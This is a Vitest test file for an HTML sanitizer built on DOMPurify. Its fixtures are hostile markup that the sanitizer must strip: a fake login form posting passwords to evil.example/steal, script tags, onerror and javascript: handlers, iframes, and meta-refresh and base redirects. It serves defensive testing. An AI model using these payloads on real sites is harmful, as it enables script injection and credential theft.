// @vitest-environment jsdom
// DOMPurify does not work in happy-dom (cure53/DOMPurify#1457); jsdom is the DOM it is tested on.
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize';

/** The sanitized HTML as the page will hold it. */
function rendered(html: string): HTMLElement {
  const box = document.createElement('div');
  box.innerHTML = sanitizeHtml(html);
  return box;
}

describe(sanitizeHtml.name, () => {
  it('keeps text formatting, https links and images, headings, lists, tables and code', () => {
    const html = [
      '<h2>维护通知</h2>',
      '<p><b>粗体</b>、<i>斜体</i>、<strong>强调</strong>与<a href="https://status.example.com/" target="_blank">状态页</a></p>',
      '<ul><li>第一项</li><li>第二项</li></ul><ol start="3"><li>第三项</li></ol>',
      '<img src="https://cdn.example.com/banner.png" alt="横幅" width="320">',
      '<table><thead><tr><th align="left">模型</th></tr></thead><tbody><tr><td colspan="2">gpt-4o</td></tr></tbody></table>',
      '<pre><code>curl https://api.example.com/v1/models</code></pre>',
      '<p><a href="/pricing">价格</a> <a href="mailto:ops@example.com">邮件</a></p>',
    ].join('');
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('removes <style> elements and style attributes', () => {
    const box = rendered('<style>body { background: red !important }</style><p style="position:fixed;inset:0;background:red">公告</p>');
    expect(box.innerHTML).toBe('<p>公告</p>');
  });

  it('removes forms and their fields, keeping the text around them', () => {
    const box = rendered(
      '<form action="https://evil.example/steal" method="post"><p>请重新登录</p><input name="password" type="password"><textarea>备注</textarea><select><option>一</option></select><button formaction="https://evil.example">提交</button></form>',
    );
    expect(box.querySelectorAll('form, input, textarea, select, option, button')).toHaveLength(0);
    expect(box.querySelector('p')?.textContent).toBe('请重新登录');
    expect(box.innerHTML).not.toContain('evil.example');
  });

  it('removes frames, objects, embeds, scripts, SVG and MathML with what they hold', () => {
    const box = rendered(
      [
        '<iframe src="https://evil.example/"></iframe>',
        '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
        '<script>window.hacked = 1</script>',
        '<svg><script>window.hacked = 2</script><a href="#"><text>点我</text></a></svg>',
        '<math><mi>x</mi></math>',
        '<p>正文</p>',
      ].join(''),
    );
    expect(box.innerHTML).toBe('<p>正文</p>');
  });

  it('removes <link>, <meta> and <base>, which would load styles, refresh or redirect the page', () => {
    const box = rendered(
      '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>正文</p>',
    );
    expect(box.innerHTML).toBe('<p>正文</p>');
  });

  it('removes event handlers and javascript: addresses', () => {
    const box = rendered(
      '<img src="https://cdn.example.com/x.png" onerror="window.hacked = 1" alt="图"><a href="javascript:alert(1)" onclick="alert(2)">点我</a><a href=" JaVaScRiPt:alert(3)">也点我</a>',
    );
    expect(box.innerHTML).toBe('<img src="https://cdn.example.com/x.png" alt="图"><a>点我</a><a>也点我</a>');
  });

  it('removes class, id, data- and aria- attributes', () => {
    const box = rendered('<p class="arco-modal-mask" id="root" data-x="1" aria-hidden="true" name="n">文字</p>');
    expect(box.innerHTML).toBe('<p>文字</p>');
  });
});
